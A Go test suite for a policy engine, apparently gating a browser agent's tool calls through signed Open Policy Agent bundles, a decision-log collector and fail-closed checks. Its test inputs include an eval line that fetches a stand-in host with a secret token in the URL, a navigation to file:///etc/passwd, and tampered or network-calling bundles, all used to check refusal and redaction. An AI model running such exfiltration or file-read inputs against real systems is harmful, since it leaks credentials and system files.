package policy

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/open-policy-agent/opa/v1/bundle"

	"github.com/chromegate/chromegate/policies"
)

// The parts of these tests are real: OPA's plugins pull from an HTTP
// bundle server and upload to an HTTP collector, both on loopback.

// testKeys makes an RSA key pair, PEM.
func testKeys(t testing.TB) (private, public string) {
	t.Helper()
	k, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	pub, err := x509.MarshalPKIXPublicKey(&k.PublicKey)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(k)})),
		string(pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: pub}))
}

// hostsPolicy allows navigation to data.hosts and quotes the arguments of
// an eval or a navigation in its reasons (as a careless policy might).
func hostsPolicy(hosts ...string) fstest.MapFS {
	data, _ := json.Marshal(map[string]any{"hosts": hosts})
	return fstest.MapFS{
		"chromegate.rego": {Data: []byte(`package chromegate

default decision := {"allow": false, "reasons": ["not on the list"]}

decision := {"allow": true, "reasons": []} if {
	input.tool == "navigate"
	chromegate.host_match(data.hosts, input.target.host)
}

decision := {"allow": false, "reasons": [sprintf("eval of %s refused", [input.args.expression])]} if {
	input.tool == "eval"
}

decision := {"allow": false, "reasons": [sprintf("%s is not on the list", [input.args.url])]} if {
	input.tool == "navigate"
	not chromegate.host_match(data.hosts, input.target.host)
}
`)},
		"data.json": {Data: data},
	}
}

func buildBundle(t testing.TB, fsys fstest.MapFS, key, rev string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := BuildBundle(t.Context(), "test", fsys, &b, BundleOptions{Revision: rev, SigningKey: key}); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// bundleServer serves one bundle at /bundles/authz.tar.gz, replaced by
// publish.
type bundleServer struct {
	*httptest.Server
	mu   sync.Mutex
	body []byte
}

func newBundleServer(t testing.TB, body []byte) *bundleServer {
	s := &bundleServer{body: body}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/bundles/authz.tar.gz" {
			http.NotFound(w, r)
			return
		}
		s.mu.Lock()
		b := s.body
		s.mu.Unlock()
		// An ETag, as nginx sends: OPA asks with If-None-Match and
		// activates again only what changed.
		sum := sha256.Sum256(b)
		etag := `"` + hex.EncodeToString(sum[:8]) + `"`
		if r.Header.Get("If-None-Match") == etag {
			w.WriteHeader(http.StatusNotModified)
			return
		}
		w.Header().Set("ETag", etag)
		w.Header().Set("Content-Type", "application/gzip")
		w.Write(b)
	}))
	t.Cleanup(s.Close)
	return s
}

func (s *bundleServer) publish(b []byte) {
	s.mu.Lock()
	s.body = b
	s.mu.Unlock()
}

// collector receives OPA's decision-log uploads: POST /logs, a gzip'd JSON
// array of events. While down it answers 503.
type collector struct {
	*httptest.Server
	down   atomic.Bool
	mu     sync.Mutex
	raw    bytes.Buffer // every body received, decompressed
	events []map[string]any
	status []map[string]any // OPA's status reports (POST /status)
}

func newCollector(t testing.TB) *collector {
	c := &collector{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if c.down.Load() {
			http.Error(w, "down", http.StatusServiceUnavailable)
			return
		}
		if strings.HasPrefix(r.URL.Path, "/status") {
			var report map[string]any
			if err := json.NewDecoder(r.Body).Decode(&report); err != nil {
				http.Error(w, err.Error(), http.StatusBadRequest)
				return
			}
			c.mu.Lock()
			c.status = append(c.status, report)
			c.mu.Unlock()
			return
		}
		zr, err := gzip.NewReader(r.Body)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		body, err := io.ReadAll(zr)
		if err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		var evs []map[string]any
		if err := json.Unmarshal(body, &evs); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		c.mu.Lock()
		c.raw.Write(body)
		c.events = append(c.events, evs...)
		c.mu.Unlock()
	}))
	t.Cleanup(c.Close)
	return c
}

func (c *collector) received() ([]map[string]any, string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]map[string]any(nil), c.events...), c.raw.String()
}

type opaTestConfig struct {
	bundleURL, collectorURL, publicKey string
	bufferBytes                        int
	status                             bool // OPA's status reports to the collector too
}

func (c opaTestConfig) json() []byte {
	cfg := map[string]any{
		"services": map[string]any{"bundles": map[string]any{"url": c.bundleURL}},
		"keys":     map[string]any{"chromegate": map[string]any{"key": c.publicKey, "algorithm": "RS256"}},
		"bundles": map[string]any{"authz": map[string]any{
			"service": "bundles", "resource": "bundles/authz.tar.gz",
			"signing": map[string]any{"keyid": "chromegate"},
			"polling": map[string]any{"min_delay_seconds": 1, "max_delay_seconds": 1},
		}},
		"labels": map[string]any{"app": "chromegate"},
	}
	if c.collectorURL != "" {
		cfg["services"].(map[string]any)["collector"] = map[string]any{"url": c.collectorURL}
		rep := map[string]any{"min_delay_seconds": 1, "max_delay_seconds": 1}
		if c.bufferBytes > 0 {
			rep["buffer_size_limit_bytes"] = c.bufferBytes
		}
		cfg["decision_logs"] = map[string]any{"service": "collector", "reporting": rep}
		if c.status {
			cfg["status"] = map[string]any{"service": "collector"}
		}
	}
	b, _ := json.Marshal(cfg)
	return b
}

func newOPAEngine(t testing.TB, cfg opaTestConfig, replica string) (*Engine, *OPA) {
	t.Helper()
	o, err := NewOPA(OPAConfig{Config: cfg.json(), Replica: replica})
	if err != nil {
		t.Fatal(err)
	}
	opts := []Option{WithOPA(o)}
	if w := o.DecisionWriter(); w != nil {
		opts = append(opts, WithDecisionLog(w))
	}
	e, err := New(context.Background(), opts...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(e.Close)
	return e, o
}

// waitFor polls cond until it holds or the test's context ends.
func waitFor(t testing.TB, what string, cond func() bool) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	for !cond() {
		select {
		case <-ctx.Done():
			t.Fatalf("waiting for %s: %v", what, ctx.Err())
		case <-time.After(20 * time.Millisecond):
		}
	}
}

func navigateInput(t testing.TB, url string) Input {
	t.Helper()
	in, err := NewInput(PhaseCall, "navigate", Class{Action: ActionNavigate, URLArg: "url"}, map[string]any{"url": url})
	if err != nil {
		t.Fatal(err)
	}
	in.Principal = Principal{Name: "agent", Roles: []string{}}
	return in
}

func TestOPABundleActivatesUpdatesAndKeepsTheLastGood(t *testing.T) {
	priv, pub := testKeys(t)
	srv := newBundleServer(t, buildBundle(t, hostsPolicy("a.test"), priv, "r1"))
	e, o := newOPAEngine(t, opaTestConfig{bundleURL: srv.URL, publicKey: pub}, "replica-1")
	ctx := t.Context()

	waitFor(t, "r1", func() bool { return e.Status().Bundles["authz"] == "r1" })
	if d := e.Decide(ctx, navigateInput(t, "https://a.test/")); !d.Allow {
		t.Fatalf("a.test under r1: %+v", d)
	}
	if d := e.Decide(ctx, navigateInput(t, "https://b.test/")); d.Allow {
		t.Fatalf("b.test under r1 allowed")
	}

	// A new revision reaches the engine: measure publish → the first
	// decision under it.
	published := time.Now()
	srv.publish(buildBundle(t, hostsPolicy("b.test"), priv, "r2"))
	waitFor(t, "a decision under r2", func() bool { return e.Decide(ctx, navigateInput(t, "https://b.test/")).Allow })
	t.Logf("bundle activation: publish → first decision under the new revision: %v (polling every 1 s)", time.Since(published))
	if b := o.Status().Bundles["authz"]; !b.LastSuccessfulDownload.IsZero() {
		t.Logf("bundle activation: download → activated (verify, compile, prepare, commit): %v", b.LastSuccessfulActivation.Sub(b.LastSuccessfulDownload))
	}
	if got := e.Status().Bundles["authz"]; got != "r2" {
		t.Fatalf("revision %q, want r2", got)
	}

	// Refused: signed with another key, unsigned, a module changed after
	// signing, a policy chromegate cannot run. Each time r2 keeps deciding.
	otherPriv, _ := testKeys(t)
	unsigned := func() []byte {
		var b bytes.Buffer
		fsys := hostsPolicy("evil.test")
		bb := bundle.Bundle{Data: map[string]any{"hosts": []any{"evil.test"}}, Manifest: bundle.Manifest{Revision: "r-unsigned"},
			Modules: []bundle.ModuleFile{{URL: "/chromegate.rego", Path: "/chromegate.rego", Raw: fsys["chromegate.rego"].Data}}}
		if err := bundle.NewWriter(&b).DisableFormat(true).Write(bb); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}()
	tampered := tamper(t, buildBundle(t, hostsPolicy("b.test"), priv, "r-tampered"), "b.test", "evil.test")
	network := hostsPolicy("evil.test")
	network["net.rego"] = &fstest.MapFile{Data: []byte("package net\n\nx := http.send({\"method\": \"GET\", \"url\": \"http://127.0.0.1/\"})\n")}
	for _, c := range []struct {
		name string
		body []byte
	}{
		{"another key", buildBundle(t, hostsPolicy("evil.test"), otherPriv, "r-other-key")},
		{"unsigned", unsigned},
		{"tampered", tampered},
		{"http.send", buildUnchecked(t, network, priv, "r-network")},
	} {
		errorsBefore := o.Status().Activations["error"]
		requestsBefore := o.Status().Bundles["authz"].LastRequest
		srv.publish(c.body)
		waitFor(t, c.name+" refused", func() bool {
			s := o.Status()
			b := s.Bundles["authz"]
			return b.LastRequest.After(requestsBefore) && (b.Code != "" || s.Activations["error"] > errorsBefore)
		})
		if d := e.Decide(ctx, navigateInput(t, "https://evil.test/")); d.Allow {
			t.Fatalf("%s: evil.test allowed", c.name)
		}
		if d := e.Decide(ctx, navigateInput(t, "https://b.test/")); !d.Allow {
			t.Fatalf("%s: the last good bundle no longer decides: %+v", c.name, d)
		}
		if got := e.Status().Bundles["authz"]; got != "r2" {
			t.Fatalf("%s: revision %q in force, want r2", c.name, got)
		}
		msg := o.Status().Bundles["authz"].Message
		t.Logf("%s: refused: %s", c.name, msg)
		if c.name == "http.send" && !strings.Contains(msg, "builtin http.send is not available in chromegate policies") {
			t.Errorf("http.send: the refusal does not say why: %s", msg)
		}
	}
}

// buildUnchecked signs a bundle without checking that it loads (as another
// tool could).
func buildUnchecked(t testing.TB, fsys fstest.MapFS, key, rev string) []byte {
	t.Helper()
	b := bundle.Bundle{Manifest: bundle.Manifest{Revision: rev}, Data: map[string]any{}}
	for p, f := range fsys {
		if strings.HasSuffix(p, ".rego") {
			b.Modules = append(b.Modules, bundle.ModuleFile{URL: "/" + p, Path: "/" + p, Raw: f.Data})
		} else {
			if err := json.Unmarshal(f.Data, &b.Data); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := b.GenerateSignature(bundle.NewSigningConfig(key, "RS256", ""), "", false); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := bundle.NewWriter(&out).DisableFormat(true).Write(b); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// tamper rewrites old to new in every file of a bundle's archive, keeping
// its .signatures.json as it was.
func tamper(t testing.TB, tgz []byte, old, new string) []byte {
	t.Helper()
	zr, err := gzip.NewReader(bytes.NewReader(tgz))
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	var out bytes.Buffer
	zw := gzip.NewWriter(&out)
	tw := tar.NewWriter(zw)
	changed := false
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(tr)
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasSuffix(h.Name, ".signatures.json") && bytes.Contains(body, []byte(old)) {
			body = bytes.ReplaceAll(body, []byte(old), []byte(new))
			changed = true
		}
		h.Size = int64(len(body))
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		tw.Write(body)
	}
	if !changed {
		t.Fatalf("tamper: %q is in no file", old)
	}
	tw.Close()
	zw.Close()
	return out.Bytes()
}

func TestOPAFailsClosedWithoutABundle(t *testing.T) {
	_, pub := testKeys(t)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	down := "http://" + l.Addr().String()
	l.Close() // nothing listens there now
	e, o := newOPAEngine(t, opaTestConfig{bundleURL: down, publicKey: pub}, "replica-1")
	d := e.Decide(t.Context(), navigateInput(t, "https://a.test/"))
	if d.Allow || !strings.Contains(firstReason(d), "no policy bundle has been activated yet") {
		t.Fatalf("before any bundle: %+v", d)
	}
	waitFor(t, "the bundle server's error", func() bool { return o.Status().Bundles["authz"].Message != "" })
	d = e.Decide(t.Context(), navigateInput(t, "https://a.test/"))
	if d.Allow || !strings.Contains(firstReason(d), "bundle authz:") {
		t.Fatalf("with the server down: %+v", d)
	}
	t.Logf("denial: %s", firstReason(d))
	if s := e.Status(); s.Waiting == "" {
		t.Fatalf("status does not say it waits: %+v", s)
	}
}

func TestOPADecisionLogsReachTheCollectorWithoutSecrets(t *testing.T) {
	priv, pub := testKeys(t)
	srv := newBundleServer(t, buildBundle(t, hostsPolicy("a.test"), priv, "r1"))
	col := newCollector(t)
	e, _ := newOPAEngine(t, opaTestConfig{bundleURL: srv.URL, collectorURL: col.URL, publicKey: pub, status: true}, "replica-7")
	ctx := t.Context()
	waitFor(t, "r1", func() bool { return e.Status().Bundles["authz"] == "r1" })

	const secret = "s3cr3t-t0ken-value-42"
	e.Decide(ctx, navigateInput(t, "https://a.test/"))
	e.Decide(ctx, navigateInput(t, "https://b.test/login?token="+secret))
	ev, err := NewInput(PhaseCall, "eval", Class{Action: ActionEval, Hashed: []string{"expression"}},
		map[string]any{"expression": "fetch('https://x.test/?k=" + secret + "')"})
	if err != nil {
		t.Fatal(err)
	}
	if d := e.Decide(ctx, ev); d.Allow || !strings.Contains(firstReason(d), secret) {
		t.Fatalf("the policy's own reason should quote the secret (the model sees it; the log must not): %+v", d)
	}

	waitFor(t, "three events", func() bool { evs, _ := col.received(); return len(evs) >= 3 })
	evs, raw := col.received()
	if strings.Contains(raw, secret) {
		t.Fatalf("the collector received the secret:\n%s", raw)
	}
	for _, ev := range evs {
		labels, _ := ev["labels"].(map[string]any)
		if labels["replica"] != "replica-7" || labels["app"] != "chromegate" {
			t.Errorf("labels %v", labels)
		}
		if rev := ev["bundles"].(map[string]any)["authz"].(map[string]any)["revision"]; rev != "r1" {
			t.Errorf("bundles %v", ev["bundles"])
		}
		if ev["path"] != DecisionPath || ev["decision_id"] == "" {
			t.Errorf("path %v, decision_id %v", ev["path"], ev["decision_id"])
		}
	}
	// OPA's status plugin reports the bundle in force, as the replica.
	waitFor(t, "a status report naming r1", func() bool {
		col.mu.Lock()
		defer col.mu.Unlock()
		for _, r := range col.status {
			labels, _ := r["labels"].(map[string]any)
			bundles, _ := r["bundles"].(map[string]any)
			authz, _ := bundles["authz"].(map[string]any)
			if labels["replica"] == "replica-7" && authz["active_revision"] == "r1" {
				return true
			}
		}
		return false
	})
	first := evs[0]
	if first["input"].(map[string]any)["target_host"] != "a.test" || first["result"].(map[string]any)["allow"] != true {
		t.Errorf("first event: %v", first)
	}
}

func TestOPADecisionLogBufferIsBoundedAndResumes(t *testing.T) {
	priv, pub := testKeys(t)
	srv := newBundleServer(t, buildBundle(t, hostsPolicy("a.test"), priv, "r1"))
	col := newCollector(t)
	col.down.Store(true)
	const limit = 32 << 10
	e, o := newOPAEngine(t, opaTestConfig{bundleURL: srv.URL, collectorURL: col.URL, publicKey: pub, bufferBytes: limit}, "replica-1")
	ctx := t.Context()
	waitFor(t, "r1", func() bool { return e.Status().Bundles["authz"] == "r1" })

	// With the collector down, decisions are still made; the buffer stays
	// within its limit and drops are counted.
	n := 0
	for o.Status().DecisionLogs.DroppedBufferFull == 0 {
		for range 500 {
			if d := e.Decide(ctx, navigateInput(t, "https://a.test/"+strings.Repeat("p", n%97))); !d.Allow {
				t.Fatalf("decision with the collector down: %+v", d)
			}
			n++
		}
		if s := o.Status().DecisionLogs; s.BufferBytes > limit {
			t.Fatalf("buffer %d bytes, limit %d", s.BufferBytes, limit)
		}
		if n > 2_000_000 {
			t.Fatal("no drop counted after 2M decisions")
		}
	}
	s := o.Status().DecisionLogs
	t.Logf("collector down: %d decisions before the first drop with a %d KiB buffer; buffer %d bytes; drops %d",
		n, limit>>10, s.BufferBytes, s.DroppedBufferFull)

	col.down.Store(false)
	e.Decide(ctx, navigateInput(t, "https://a.test/after"))
	waitFor(t, "the upload to resume", func() bool {
		_, raw := col.received()
		return strings.Contains(raw, "a.test")
	})
	waitFor(t, "the buffer to drain", func() bool { return o.Status().DecisionLogs.BufferBytes == 0 })
}

// The embedded default policy, built into a bundle and activated by OPA,
// decides exactly as the embedded default does, flags' data included.
func TestDefaultPolicyRoundTripsThroughABundle(t *testing.T) {
	priv, pub := testKeys(t)
	var tgz bytes.Buffer
	if err := BuildBundle(t.Context(), DefaultSource, policies.Default, &tgz, BundleOptions{Revision: "default-1", SigningKey: priv}); err != nil {
		t.Fatal(err)
	}
	srv := newBundleServer(t, tgz.Bytes())
	flags := WithData(map[string]any{"allow_domains": []string{"example.com"}, "enable_mutations": true})
	o, err := NewOPA(OPAConfig{Config: opaTestConfig{bundleURL: srv.URL, publicKey: pub}.json(), Replica: "r"})
	if err != nil {
		t.Fatal(err)
	}
	viaBundle, err := New(t.Context(), WithOPA(o), flags)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(viaBundle.Close)
	embedded, err := New(t.Context(), flags)
	if err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the default bundle", func() bool { return viaBundle.Status().Bundles["authz"] == "default-1" })
	if b := o.Status().Bundles["authz"]; !b.LastSuccessfulDownload.IsZero() {
		t.Logf("default policy bundle (%d bytes): download → activated (compile, prepare, commit): %v",
			tgz.Len(), b.LastSuccessfulActivation.Sub(b.LastSuccessfulDownload))
	}

	page := NewPage("https://example.com/a")
	inputs := []Input{navigateInput(t, "https://example.com/"), navigateInput(t, "https://evil.test/"),
		navigateInput(t, "http://127.0.0.1/"), navigateInput(t, "about:blank"), navigateInput(t, "file:///etc/passwd")}
	for _, c := range []struct {
		tool  string
		class Class
		args  map[string]any
	}{
		{"get_text", Class{Action: ActionRead, ReadOnly: true}, map[string]any{}},
		{"eval", Class{Action: ActionEval}, map[string]any{"expression": "1"}},
		{"click", Class{Action: ActionInteract, Mutating: true}, map[string]any{"selector": "a"}},
		{"download_file", Class{Action: ActionDownload, URLArg: "url"}, map[string]any{"url": "https://example.com/f"}},
	} {
		in, err := NewInput(PhaseCall, c.tool, c.class, c.args)
		if err != nil {
			t.Fatal(err)
		}
		in.Page = page
		in.Principal = Principal{Name: "agent", Roles: []string{}}
		inputs = append(inputs, in)
	}
	allowed := 0
	for _, in := range inputs {
		got, want := viaBundle.Decide(t.Context(), in), embedded.Decide(t.Context(), in)
		got.EvalMicros, want.EvalMicros = 0, 0
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s %v: bundle and embedded disagree (-embedded +bundle):\n%s", in.Tool, in.Target, diff)
		}
		if want.Allow {
			allowed++
		}
	}
	if allowed == 0 || allowed == len(inputs) {
		t.Fatalf("%d of %d allowed: the inputs do not tell policies apart", allowed, len(inputs))
	}
}

func TestOPAConfigRefused(t *testing.T) {
	t.Parallel()
	_, pub := testKeys(t)
	good := opaTestConfig{bundleURL: "http://127.0.0.1:1", publicKey: pub}.json()
	edit := func(f func(map[string]any)) []byte {
		var d map[string]any
		json.Unmarshal(good, &d)
		f(d)
		b, _ := json.Marshal(d)
		return b
	}
	for _, c := range []struct {
		name, want string
		config     []byte
	}{
		{"unsigned bundle", `has no signing block`, edit(func(d map[string]any) {
			delete(d["bundles"].(map[string]any)["authz"].(map[string]any), "signing")
		})},
		{"no bundles", "no bundles", edit(func(d map[string]any) { delete(d, "bundles") })},
		{"legacy bundle", "single `bundle` key", edit(func(d map[string]any) { d["bundle"] = map[string]any{"name": "x"} })},
		{"unknown key id", "authz", edit(func(d map[string]any) {
			d["bundles"].(map[string]any)["authz"].(map[string]any)["signing"] = map[string]any{"keyid": "nope"}
		})},
		{"not YAML", "opa config", []byte("{{{")},
	} {
		if _, err := NewOPA(OPAConfig{Config: c.config}); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: err = %v, want it to say %q", c.name, err, c.want)
		}
	}
	// YAML works, and labels.replica defaults to the configuration's own.
	yaml := "services:\n  b: {url: 'http://127.0.0.1:1'}\nkeys:\n  k:\n    algorithm: RS256\n    key: |\n" +
		indent(pub, "      ") + "bundles:\n  authz: {service: b, signing: {keyid: k}}\nlabels: {replica: from-config}\n"
	o, err := NewOPA(OPAConfig{Config: []byte(yaml)})
	if err != nil {
		t.Fatal(err)
	}
	if o.replica != "from-config" || o.manager.Labels()["replica"] != "from-config" {
		t.Fatalf("replica %q, labels %v", o.replica, o.manager.Labels())
	}
}

func indent(s, by string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	return by + strings.Join(lines, "\n"+by) + "\n"
}

// Three replicas pull from one bundle server and log to one collector: a
// new revision reaches all three, and the collector tells them apart.
func TestOPAReplicasShareOneServer(t *testing.T) {
	priv, pub := testKeys(t)
	srv := newBundleServer(t, buildBundle(t, hostsPolicy("a.test"), priv, "r1"))
	col := newCollector(t)
	cfg := opaTestConfig{bundleURL: srv.URL, collectorURL: col.URL, publicKey: pub}
	var engines []*Engine
	for _, name := range []string{"replica-a", "replica-b", "replica-c"} {
		e, _ := newOPAEngine(t, cfg, name)
		engines = append(engines, e)
	}
	ctx := t.Context()
	for _, e := range engines {
		waitFor(t, "r1", func() bool { return e.Status().Bundles["authz"] == "r1" })
	}
	published := time.Now()
	srv.publish(buildBundle(t, hostsPolicy("b.test"), priv, "r2"))
	var last time.Duration
	for i, e := range engines {
		waitFor(t, "r2 everywhere", func() bool { return e.Decide(ctx, navigateInput(t, "https://b.test/")).Allow })
		if d := time.Since(published); d > last {
			last = d
		}
		if got := e.Status().Bundles["authz"]; got != "r2" {
			t.Fatalf("replica %d: revision %q", i, got)
		}
	}
	t.Logf("bundle activation across 3 replicas: publish → the last one decides under r2: %v (polling every 1 s)", last)
	waitFor(t, "r2 decisions from every replica", func() bool {
		seen := map[string]bool{}
		evs, _ := col.received()
		for _, ev := range evs {
			labels, _ := ev["labels"].(map[string]any)
			bundles, _ := ev["bundles"].(map[string]any)
			authz, _ := bundles["authz"].(map[string]any)
			if r, _ := labels["replica"].(string); authz["revision"] == "r2" {
				seen[r] = true
			}
		}
		return len(seen) == 3
	})
}
